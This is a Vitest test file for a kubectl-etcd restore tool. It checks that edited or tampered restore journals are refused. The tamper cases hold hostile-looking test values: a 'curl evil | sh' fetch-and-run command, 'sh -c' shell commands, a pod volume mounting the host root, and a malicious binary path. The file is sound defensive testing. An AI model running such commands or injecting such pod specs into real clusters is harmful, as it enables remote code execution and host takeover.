import { describe, expect, it } from 'vitest';
import { restoreMember } from './restore-support.js';
import type { JournalState, JournalStore } from '../../src/restore/journal.js';
import { buildRestorePlan } from '../../src/restore/plan.js';
import { checkStoredPlan, trustedJournalState } from '../../src/restore/trust.js';

// --resume / --abort act only on a journal whose plan is what the planner builds from the inputs
// stored with it, and whose cluster copy (a ConfigMap others may edit) agrees with the local one.

const member = (n: number) => restoreMember(n, { runAsUser: 1000 });

function journal(): JournalState {
  const plan = buildRestorePlan({
    topology: { namespace: 'uc1', workload: { kind: 'StatefulSet', name: 'kube-etcd', replicas: 2 }, members: [member(0), member(1)], image: 'etcd:3.4', initialClusterToken: 't' },
    snapshot: { path: 's.db', size: 3, sha256: 'abc', revision: 5, totalKey: 5, hasTrailer: true, liveKeys: 4 },
    quiesce: [{ kind: 'StatefulSet', name: 'kube-apiserver', replicas: 3, reason: 'detected' }],
    pdbs: [{ name: 'pdb', manifest: { metadata: { name: 'pdb' } } }],
    utilityImage: 'busybox:1', etcdToolsImage: 'etcd:3.4', tool: { binary: 'etcdctl' }, stamp: 'S', inPlace: false,
  });
  plan.warnings.unshift('a preflight warning the command adds');
  // As stored: through JSON, as the ConfigMap and the file hold it.
  return JSON.parse(JSON.stringify({
    version: 4, stamp: 'S', namespace: 'uc1', workload: 'kube-etcd', snapshot: { path: 's.db', sha256: 'abc', revision: 5, totalKey: 5 },
    etcdReplicas: 2, quiesce: plan.quiesce, pdbs: plan.pdbs, done: ['journal', 'pdb-delete/pdb'], phase: 'running', plan, startedAt: '', updatedAt: '2026-01-01T00:00:00Z',
  })) as JournalState;
}

const store = (where: 'local' | 'cluster'): JournalStore => ({
  where, describe: () => (where === 'local' ? '"/state/restore-uc1-kube-etcd.json"' : 'configmap "kubectl-etcd-restore-journal-kube-etcd" in namespace "uc1"'),
  load: async () => undefined, save: async () => undefined, remove: async () => undefined,
});

type Edit = (s: JournalState) => void;
const edits: Array<[string, Edit]> = [
  ['a restore command', (s) => { s.plan.members[0]!.restoreArgv.push('--extra'); }],
  ['the swap script', (s) => { s.plan.members[1]!.swapArgv[2] = 'curl evil | sh'; }],
  ['the chown command', (s) => { s.plan.members[0]!.chownArgv = ['sh', '-c', 'id']; }],
  ['a utility pod command', (s) => { s.plan.members[0]!.utilityPod.spec.containers[0]!['command'] = ['sh', '-c', 'evil']; }],
  ['one member\'s utility image', (s) => { s.plan.members[1]!.utilityPod.spec.containers[0]!['image'] = 'evil:1'; }],
  ['a utility pod volume', (s) => { (s.plan.members[0]!.utilityPod.spec['volumes'] as unknown[]).push({ name: 'root', hostPath: { path: '/' } }); }],
  ['a step', (s) => { s.plan.steps.splice(3, 0, { kind: 'utility', member: 'kube-etcd-0', id: 'utility/kube-etcd-0', title: 'again', mutates: true }); }],
  ['the quiesced replicas outside the plan', (s) => { s.quiesce[0]!.replicas = 50; }],
  ['a PDB manifest outside the plan', (s) => { s.pdbs[0]!.manifest = { kind: 'Pod' }; }],
  ['a done step that is not in the plan', (s) => { s.done.push('rm-rf/everything'); }],
];

describe('checkStoredPlan', () => {
  it('accepts a journal as the command stores it', () => {
    expect(() => checkStoredPlan(journal(), 'x')).not.toThrow();
  });

  it.each(edits)('refuses a journal whose %s was edited', (_what, edit) => {
    const s = journal();
    edit(s);
    expect(() => checkStoredPlan(s, 'configmap "j" in namespace "uc1"')).toThrow(/^the restore journal in configmap "j" in namespace "uc1" .*changed outside kubectl-etcd$/);
  });
});

describe('trustedJournalState', () => {
  it('uses the local copy when both agree', () => {
    const local = journal();
    const cluster = journal();
    cluster.done.push('quiesce/StatefulSet/kube-apiserver');
    cluster.updatedAt = '2027-01-01T00:00:00Z';
    const r = trustedJournalState([{ store: store('local'), state: local }, { store: store('cluster'), state: cluster }]);
    expect(r.clusterOnly).toBe(false);
    expect(r.state).toBe(local);
  });

  it('refuses when the cluster copy holds another consistent plan than the local one (inputs edited: image, volumes)', () => {
    const local = journal();
    const cluster = journal();
    // A self-consistent rewrite: inputs changed and the plan rebuilt from them, so only the local copy can tell.
    for (const m of cluster.plan.members) {
      m.member.dataVolume = { kind: 'hostPath', volumeName: 'data', hostPath: '/', mountPath: '/var/lib/etcd' };
    }
    const rebuilt = buildRestorePlan({
      topology: { namespace: 'uc1', workload: cluster.plan.workload, members: cluster.plan.members.map((m) => m.member), image: 'x', initialClusterToken: 't' },
      snapshot: cluster.plan.snapshot, quiesce: cluster.plan.quiesce, pdbs: cluster.plan.pdbs, utilityImage: 'busybox:1', etcdToolsImage: 'etcd:3.4',
      tool: cluster.plan.tool, stamp: 'S', inPlace: false,
    });
    cluster.plan = JSON.parse(JSON.stringify(rebuilt)) as JournalState['plan'];
    expect(() => checkStoredPlan(cluster, 'c')).not.toThrow();
    expect(() => trustedJournalState([{ store: store('local'), state: local }, { store: store('cluster'), state: cluster }]))
      .toThrow(/^the restore journal in configmap "kubectl-etcd-restore-journal-kube-etcd" in namespace "uc1" differs from the local journal "\/state\/restore-uc1-kube-etcd\.json"/);
  });

  it('marks a journal found only in the cluster, so the command shows it and asks', () => {
    const r = trustedJournalState([{ store: store('local') }, { store: store('cluster'), state: journal() }]);
    expect(r.clusterOnly).toBe(true);
    expect(r.state?.stamp).toBe('S');
  });

  it('checks every copy, the cluster one included, before anything else', () => {
    const cluster = journal();
    cluster.plan.members[0]!.restoreArgv[0] = '/tmp/evil';
    expect(() => trustedJournalState([{ store: store('local'), state: journal() }, { store: store('cluster'), state: cluster }])).toThrow(/changed outside kubectl-etcd/);
  });
});
